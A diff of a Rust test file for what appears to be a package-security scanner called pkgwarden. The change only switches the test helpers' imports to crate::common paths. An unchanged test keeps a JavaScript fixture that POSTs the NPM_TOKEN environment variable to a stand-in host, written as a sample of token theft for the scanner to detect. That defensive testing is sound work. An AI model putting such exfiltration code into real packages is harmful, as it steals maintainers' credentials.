@@ -2,9 +2,8 @@
 //! archives in memory, scanned, and checked finding by finding; plus hostile JavaScript
 //! shapes (deep nesting, huge expressions, minified megabytes) that must not crash.
 
-mod common;
 
-use common::{assert_finding, files, fixture, gem, gzip, scan, tar, with_rule};
+use crate::common::{assert_finding, files, fixture, gem, gzip, scan, tar, with_rule};
 use pkgwarden::finding::{Category, Phase};
 use pkgwarden::verdict::Verdict;
 use pkgwarden::PackageReport;
@@ -253,9 +252,9 @@ fn a_named_secret_variable_is_a_secret() {
             b"const https = require('https');\nconst r = https.request({ hostname: 'collect.example.invalid', method: 'POST' });\nr.write(process.env.NPM_TOKEN);\n".to_vec(),
         ),
     ];
-    let r = common::scan(
+    let r = crate::common::scan(
         "tok-1.0.0.tgz",
-        &common::gzip(&common::tar(&files, "package/")),
+        &crate::common::gzip(&crate::common::tar(&files, "package/")),
     );
     assert!(
         r.findings
